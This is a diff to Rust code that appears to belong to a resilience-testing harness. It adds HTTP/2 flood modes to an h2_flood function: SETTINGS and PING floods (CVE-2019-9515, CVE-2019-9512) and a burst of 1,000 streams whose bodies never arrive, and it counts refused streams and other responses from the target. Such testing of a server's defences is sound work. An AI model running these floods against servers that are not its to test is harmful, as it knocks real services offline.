@@ -784,6 +784,15 @@ enum Attack {
     /// One HEADERS without END_HEADERS, then CONTINUATION frames forever
     /// (CVE-2024-27316 and kin).
     Continuation,
+    /// SETTINGS frames, each to be acknowledged, as fast as it goes
+    /// (CVE-2019-9515).
+    Settings,
+    /// PING frames, each to be answered (CVE-2019-9512).
+    Ping,
+    /// 1,000 requests whose bodies never come, on one connection: past
+    /// the peer's stream limit each should be refused (`refused` counts
+    /// RST_STREAM REFUSED_STREAM); then the connection is closed.
+    Streams,
 }
 
 /// One HTTP/2 frame: 9-byte head (length, type, flags, stream) + payload.
@@ -805,8 +814,10 @@ fn h2_flood(to: SocketAddr, attack: Attack, max_bytes: u64) -> io::Result<()> {
     const HEADERS: u8 = 0x1;
     const RST_STREAM: u8 = 0x3;
     const SETTINGS: u8 = 0x4;
+    const PING: u8 = 0x6;
     const GOAWAY: u8 = 0x7;
     const CONTINUATION: u8 = 0x9;
+    const REFUSED_STREAM: u32 = 0x7;
     const END_STREAM: u8 = 0x1;
     const END_HEADERS: u8 = 0x4;
     // HPACK: :method GET, :scheme http, :path / (indexed), then
@@ -818,11 +829,14 @@ fn h2_flood(to: SocketAddr, attack: Attack, max_bytes: u64) -> io::Result<()> {
     // A peer that stops reading without hanging up must not hold us.
     stream.set_write_timeout(Some(Duration::from_secs(10)))?;
     let hung_up = Arc::new(AtomicBool::new(false));
+    // A PING the peer acknowledged: it has read every frame before it.
+    let ponged = Arc::new(AtomicBool::new(false));
     let reader = {
         let mut stream = stream.try_clone()?;
         let hung_up = hung_up.clone();
+        let ponged = ponged.clone();
         thread::spawn(move || {
-            let (mut goaway, mut responses) = (None, 0u64);
+            let (mut goaway, mut responses, mut refused) = (None, 0u64, 0u64);
             let mut head = [0u8; 9];
             while stream.read_exact(&mut head).is_ok() {
                 let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
@@ -837,11 +851,22 @@ fn h2_flood(to: SocketAddr, attack: Attack, max_bytes: u64) -> io::Result<()> {
                         ]));
                     }
                     HEADERS => responses += 1,
+                    PING if head[4] & 0x1 != 0 && payload == *b"mesh-pod" => {
+                        ponged.store(true, Ordering::SeqCst);
+                    }
+                    RST_STREAM
+                        if length == 4
+                            && u32::from_be_bytes([
+                                payload[0], payload[1], payload[2], payload[3],
+                            ]) == REFUSED_STREAM =>
+                    {
+                        refused += 1;
+                    }
                     _ => {}
                 }
             }
             hung_up.store(true, Ordering::SeqCst);
-            (goaway, responses)
+            (goaway, responses, refused)
         })
     };
 
@@ -906,10 +931,42 @@ fn h2_flood(to: SocketAddr, attack: Attack, max_bytes: u64) -> io::Result<()> {
                     while send(&batch) {}
                 }
             }
+            Attack::Settings | Attack::Ping => {
+                let frame = match attack {
+                    Attack::Settings => h2_frame(SETTINGS, 0, 0, &[]),
+                    _ => h2_frame(PING, 0, 0, &[0; 8]),
+                };
+                let batch: Vec<u8> = frame
+                    .iter()
+                    .copied()
+                    .cycle()
+                    .take(frame.len() * 1000)
+                    .collect();
+                while send(&batch) {}
+            }
+            Attack::Streams => {
+                let mut batch = Vec::new();
+                for id in (1..2000u32).step_by(2) {
+                    batch.extend(h2_frame(HEADERS, END_HEADERS, id, &REQUEST));
+                }
+                streams = 1000;
+                // Then a PING: once it is acknowledged, the peer has read
+                // every HEADERS, and answered each.
+                batch.extend(h2_frame(PING, 0, 0, b"mesh-pod"));
+                if send(&batch) {
+                    let deadline = std::time::Instant::now() + Duration::from_secs(10);
+                    while !ponged.load(Ordering::SeqCst)
+                        && !hung_up.load(Ordering::SeqCst)
+                        && std::time::Instant::now() < deadline
+                    {
+                        thread::sleep(Duration::from_millis(10));
+                    }
+                }
+            }
         }
     }
     let _ = stream.shutdown(std::net::Shutdown::Write);
-    let (goaway, responses) = reader.join().expect("the reader panicked");
+    let (goaway, responses, refused) = reader.join().expect("the reader panicked");
     println!(
         "{}",
         serde_json::json!({
@@ -917,6 +974,7 @@ fn h2_flood(to: SocketAddr, attack: Attack, max_bytes: u64) -> io::Result<()> {
             "sent_bytes": sent,
             "streams": streams,
             "responses": responses,
+            "refused": refused,
             "gave_up": sent >= max_bytes || stalled,
         })
     );
